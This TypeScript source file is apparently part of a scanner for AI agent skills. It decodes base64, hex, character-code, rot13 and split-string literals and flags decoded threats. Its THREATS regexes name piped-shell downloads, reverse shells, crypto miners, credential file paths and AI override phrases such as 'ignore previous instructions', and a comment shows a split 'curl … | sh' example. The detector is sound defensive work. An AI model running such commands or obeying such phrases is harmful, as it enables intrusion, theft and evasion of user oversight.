import type { Severity, SkillSource } from '../../core/types'
import type { RawFinding } from '../types'
import { Buffer } from 'node:buffer'
import { LineIndex } from '../lines'
import { findFences, markCautionary } from '../markdown'

/**
 * Encoded literals (base64, hex, escape chains, character codes, rot13) decoded and read for what an attack
 * hides in them: commands, code, secrets paths, instructions, URLs. Binary data (a PNG, a font, a key, a
 * hash) decodes to bytes that are not text and is left alone.
 */

/** Bounds: characters decoded per literal, literals and decoded characters per skill. */
const MAX_LITERAL = 64 * 1024
const MAX_LITERALS = 4000
const MAX_DECODED = 2 * 1024 * 1024

interface Threat {
  re: RegExp
  what: string
  severity: Severity
}

/** What decoded text is checked for, worst first. */
const THREATS: Threat[] = [
  // eslint-disable-next-line style/max-len -- a pattern is clearer whole
  { re: /\b(?:curl|wget)\b[^\n]*\|\s*(?:sudo\s+)?(?:ba|z|k)?sh\b|\b(?:iex|Invoke-Expression)\b/i, what: 'a download run by a shell', severity: 'error' },
  // eslint-disable-next-line style/max-len -- a pattern is clearer whole
  { re: /\/dev\/(?:tcp|udp)\/|\bnc\b[^\n]*\s-[ec]\b|\bdup2\s*\(|pty\.spawn|Net\.Sockets\.TCPClient|\bsocat\b[^\n]*exec:/i, what: 'a reverse shell', severity: 'error' },
  { re: /stratum\+(?:tcp|ssl)|\bxmrig\b/i, what: 'a crypto miner', severity: 'error' },
  // eslint-disable-next-line style/max-len -- a pattern is clearer whole
  { re: /\b(?:curl|wget|Invoke-WebRequest|iwr|irm|requests\.(?:get|post)|urlopen|fetch|axios)\b/i, what: 'a network request', severity: 'error' },
  // eslint-disable-next-line style/max-len -- a pattern is clearer whole
  { re: /\b(?:ba|z)?sh\s+-[ci]\b|\bpowershell\b|\bcmd(?:\.exe)?\s+\/c\b|\bchmod\s+\+x|\brm\s+-rf\b|\bnohup\b|\bcrontab\b|\bsudo\s/i, what: 'a shell command', severity: 'error' },
  // eslint-disable-next-line style/max-len -- a pattern is clearer whole
  { re: /\b(?:exec|eval|os\.system|os\.popen|subprocess|child_process|execSync|spawn|__import__|Function)\s*\(|\bimport\s+(?:os|socket|subprocess|pty|requests|urllib)\b|\brequire\s*\(\s*['"](?:child_process|net|https?|fs)['"]/, what: 'code', severity: 'error' },
  // eslint-disable-next-line style/max-len -- a pattern is clearer whole
  { re: /~\/\.ssh|\.ssh\/id_|\.aws\/credentials|\/etc\/(?:passwd|shadow)|\bprocess\.env\b|\bos\.environ\b|\b(?:AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN|OPENAI_API_KEY|ANTHROPIC_API_KEY)\b/, what: 'secret access', severity: 'error' },
  // eslint-disable-next-line style/max-len -- a pattern is clearer whole
  { re: /\b(?:ignore|disregard)\s+(?:all\s+)?(?:previous|prior|above|earlier)\s+instructions\b|\bdo\s+not\s+(?:tell|inform|show)\s+the\s+user\b|\bsystem\s+prompt\b/i, what: 'instructions for the agent', severity: 'error' },
  { re: /\bhttps?:\/\/[^\s"']+|\b(?:\d{1,3}\.){3}\d{1,3}:\d{2,5}\b/i, what: 'a URL', severity: 'warning' },
]

/** Text, not bytes: printable ASCII (and common whitespace) almost throughout. */
function asText(s: string): string | null {
  if (s.length < 8)
    return null
  // Fails fast: decoded identifiers and binary data show a control byte within the first few.
  const allowed = s.length * 0.05
  let bad = 0
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i)
    if (!((c >= 32 && c < 127) || c === 9 || c === 10 || c === 13) && ++bad > allowed)
      return null
  }
  return s
}

/** Base64 of UTF-16LE text (PowerShell's -EncodedCommand) reads as text once its zero bytes are dropped. */
function fromB64(s: string): string {
  const bytes = Buffer.from(s.replace(/-/g, '+').replace(/_/g, '/'), 'base64').toString('latin1')
  let zeros = 0
  for (let i = 1; i < bytes.length; i += 2) {
    if (bytes.charCodeAt(i) === 0)
      zeros++
  }
  return bytes.length > 8 && zeros >= (bytes.length >> 1) * 0.9 ? bytes.replace(/\0/g, '') : bytes
}
const fromHex = (s: string): string => Buffer.from(s.replace(/\\x|0x|[\s,]/gi, ''), 'hex').toString('latin1')
function fromCodes(s: string): string {
  const codes = (s.match(/\d+/g) ?? []).map(Number)
  return codes.every(c => c >= 9 && c < 127) ? String.fromCharCode(...codes) : ''
}
function rot13(s: string): string {
  return s.replace(/[a-z]/gi, (c) => {
    const base = c <= 'Z' ? 65 : 97
    return String.fromCharCode(((c.charCodeAt(0) - base + 13) % 26) + base)
  })
}

interface Kind {
  name: string
  re: RegExp
  decode: (lit: string) => string
  group?: number
  /** A literal every match contains: a text without it is not searched. */
  hint?: string
}

const KINDS: Kind[] = [
  { name: 'hex escapes', re: /(?:\\x[0-9a-fA-F]{2}){8,}/g, decode: fromHex, hint: '\\x' },
  { name: 'hex bytes', re: /(?:0x[0-9a-fA-F]{2}\s*,\s*){7,}0x[0-9a-fA-F]{2}/g, decode: fromHex, hint: '0x' },
  {
    name: 'unicode escapes',
    re: /(?:\\u00[0-9a-fA-F]{2}){8,}/g,
    hint: '\\u00',
    decode: s => s.replace(/\\u00([0-9a-f]{2})/gi, (_, h: string) => String.fromCharCode(Number.parseInt(h, 16))),
  },
  { name: 'character codes', re: /\b\d{2,3}(?:\s*,\s*\d{2,3}){7,}\b/g, decode: fromCodes },
  {
    name: 'character codes',
    re: /(?:chr\s*\(\s*\d{2,3}\s*\)\s*\+\s*){5,}chr\s*\(\s*\d{2,3}\s*\)/g,
    decode: fromCodes,
    hint: 'chr',
  },
  // eslint-disable-next-line style/max-len -- a pattern is clearer whole
  { name: 'rot13', re: /\bcodecs\.decode\s*\(\s*(["'])((?:(?!\1)[^\n]){8,500})\1\s*,\s*["']rot.?13["']/g, decode: rot13, group: 2, hint: 'rot' },
]

const BASE64: Kind = { name: 'base64', re: /(?!)/, decode: fromB64 }
const HEX: Kind = { name: 'hex', re: /(?!)/, decode: fromHex }

/** Per ASCII code: 1 a base64 (or base64url) character, 2 also a hex digit, 4 upper case, 8 lower case. */
const CLASS = new Uint8Array(128)
for (let c = 0; c < 128; c++) {
  const ch = String.fromCharCode(c)
  if (/[\w+/-]/.test(ch))
    CLASS[c] = 1 | (/[0-9a-f]/i.test(ch) ? 2 : 0) | (/[A-Z]/.test(ch) ? 4 : 0) | (/[a-z]/.test(ch) ? 8 : 0)
}

const MIN_RUN = 20
function classAt(text: string, i: number): number {
  const c = text.charCodeAt(i)
  return c < 128 ? CLASS[c]! : 0
}

/**
 * Maximal runs of base64 characters of at least `MIN_RUN`, with their padding, in one pass (a regex restarts at
 * every word of prose): `visit(start, end, hexOnly, mixedCase)`. A run that long starting in [i, i + MIN_RUN)
 * holds the character at i + MIN_RUN - 1, so that one is looked at first: prose is passed a word per step.
 */
function eachRun(text: string, visit: (start: number, end: number, hexOnly: boolean, mixed: boolean) => void): void {
  const n = text.length
  let i = 0
  while (i + MIN_RUN <= n) {
    const j = i + MIN_RUN - 1
    if (!classAt(text, j)) {
      i = j + 1
      continue
    }
    let start = j
    while (start > i && classAt(text, start - 1)) start--
    let stop = j + 1
    while (stop < n && classAt(text, stop)) stop++
    if (stop - start < MIN_RUN) {
      i = stop + 1
      continue
    }
    let all = 15
    let any = 0
    for (let k = start; k < stop; k++) {
      const bits = classAt(text, k)
      all &= bits
      any |= bits
    }
    let end = stop
    while (end < n && end - stop < 2 && text.charCodeAt(end) === 61)
      end++
    visit(start, end, (all & 2) !== 0, (any & 12) === 12)
    i = end
  }
}

/**
 * Base64 of ASCII text: every byte is below 0x80, so the first character of every quad encodes a value below
 * 32 (`A`-`f`). Random identifiers fail within a few quads; checked before anything is decoded.
 */
function asciiQuads(text: string, start: number, end: number): boolean {
  for (let i = start; i < end && i < start + 64; i += 4) {
    const c = text.charCodeAt(i)
    if (!((c >= 65 && c <= 90) || (c >= 97 && c <= 102)))
      return false
  }
  return true
}

/** Adjacent quoted pieces joined by `+` on one line (`"aGVs" + "bG8="`), as the runtime would join them. */
const QUICK_PIECES = /["']\s*\+\s*["']/
const PIECES = /(?:["'][\w+/=-]{2,}["']\s*\+\s*){1,}["'][\w+/=-]{2,}["']/g
/** Three or more quoted pieces of any text joined by `+` (`'cu' + 'rl -s ht' + 'tps://x' + ' | s' + 'h'`). */
const TEXT_PIECES = /(?:(["'])(?:(?!\1)[^\\\n]){1,80}\1\s*\+\s*){2,}(["'])(?:(?!\2)[^\\\n]){1,80}\2/g
const PIECE = /(["'])((?:(?!\1)[^\\\n]){1,80})\1/g

function firstThreat(text: string): Threat | null {
  for (const t of THREATS) {
    if (t.re.test(text))
      return t
  }
  return null
}

interface Budget {
  literals: number
  decoded: number
}

/** What a literal decodes to, one level of nesting included (base64 of base64, hex of base64). */
function reveal(lit: string, kind: Kind, budget: Budget): { text: string, threat: Threat } | null {
  if (lit.length > MAX_LITERAL || budget.literals >= MAX_LITERALS || budget.decoded >= MAX_DECODED)
    return null
  budget.literals++
  budget.decoded += lit.length
  const text = asText(kind.decode(lit))
  if (!text)
    return null
  const threat = firstThreat(text)
  if (threat && threat.severity === 'error')
    return { text, threat }
  const inner = /[A-Za-z0-9+/]{20,}={0,2}/.exec(text)
  if (inner && inner[0].length < text.length + 1) {
    const deeper = asText(fromB64(inner[0]))
    const t2 = deeper ? firstThreat(deeper) : null
    if (t2 && deeper)
      return { text: deeper, threat: t2 }
  }
  // A JSON document that names a URL (a JWT's issuer, a config) is data.
  return threat && !(threat.severity === 'warning' && /^\s*[{[]/.test(text)) ? { text, threat } : null
}

// A command whose name says it decodes or analyses what it is given, the literal its argument.
const ANALYSED = /(?:^|\s)[\w./-]*(?:decod|deobfusc|analy[sz]|inspect)[\w./-]*\s+(?:-{1,2}[\w-]+\s+)*["']?$/i

const DATA_URI = /data:(?:image|font|audio|video)\/[\w.+-]+;base64,$/i

const clean = (s: string): string => s.replace(/\s+/g, ' ').trim().slice(0, 60)

export function decodedLiterals(skill: SkillSource): RawFinding[] {
  const out: RawFinding[] = []
  const budget: Budget = { literals: 0, decoded: 0 }
  for (const file of skill.files) {
    const text = file.text
    if (text === null || text.length > 1024 * 1024)
      continue
    let index: LineIndex | null = null
    const found: RawFinding[] = []
    const seenLines = new Set<number>()
    const report = (at: number, length: number, kind: string, hit: { text: string, threat: Threat }): void => {
      index ??= new LineIndex(text)
      const line = index.lineOf(at)
      if (seenLines.has(line))
        return
      seenLines.add(line)
      // `python3 scripts/decode_ps.py '<base64>'`: a sample handed to an analyst's decoder, nothing run.
      const analysed = ANALYSED.test(text.slice(index.start(line), at)) && !/[|;&`]|\$\(/.test(index.line(line))
      found.push({
        rule: 'encoded_payload',
        path: file.path,
        line: line + 1,
        column: at - index.start(line) + 1,
        message: `${kind} literal decodes to ${hit.threat.what}: ${clean(hit.text)}`,
        excerpt: text.slice(at, at + Math.min(length, 60)),
        severity: analysed ? 'warning' : hit.threat.severity,
      })
    }
    eachRun(text, (start, end, hexOnly, mixed) => {
      // Base64 of text mixes cases; snake_case, kebab-case and paths do not. A data URI of an image or a
      // font is what it says.
      const kind = hexOnly && end - start >= 24 ? HEX : mixed && asciiQuads(text, start, end) ? BASE64 : null
      if (!kind || (kind === BASE64 && DATA_URI.test(text.slice(Math.max(0, start - 40), start))))
        return
      const hit = reveal(text.slice(start, end), kind, budget)
      if (hit)
        report(start, end - start, kind.name, hit)
    })
    for (const kind of KINDS) {
      if (kind.hint && !text.includes(kind.hint))
        continue
      kind.re.lastIndex = 0
      for (let m = kind.re.exec(text); m; m = kind.re.exec(text)) {
        const hit = reveal(m[kind.group ?? 0]!, kind, budget)
        if (hit)
          report(m.index, m[0].length, kind.name, hit)
      }
    }
    // Both piece patterns need a `" + "` join: looked for once.
    const joins = QUICK_PIECES.test(text)
    PIECES.lastIndex = 0
    for (let m = joins ? PIECES.exec(text) : null; m; m = PIECES.exec(text)) {
      const joined = [...m[0].matchAll(/["']([\w+/=-]+)["']/g)].map(x => x[1]).join('')
      const hit = reveal(joined, BASE64, budget)
      if (hit)
        report(m.index, m[0].length, 'base64', hit)
    }
    // Pieces of a command split so that no piece names it: joined, they must not spell a threat.
    TEXT_PIECES.lastIndex = 0
    for (let m = joins ? TEXT_PIECES.exec(text) : null; m; m = TEXT_PIECES.exec(text)) {
      const joined = [...m[0].matchAll(PIECE)].map(x => x[2]).join('')
      const threat = joined.length <= MAX_LITERAL ? firstThreat(joined) : null
      if (threat?.severity === 'error' && !firstThreat(m[0].replace(/["']\s*\+\s*["']/g, '\0')))
        report(m.index, m[0].length, 'split string', { text: joined, threat })
    }
    if (found.length && /\.(?:md|mdx|markdown)$/i.test(file.path))
      markCautionary(found, index ?? new LineIndex(text), findFences(file), file.path)
    out.push(...found)
  }
  return out
}
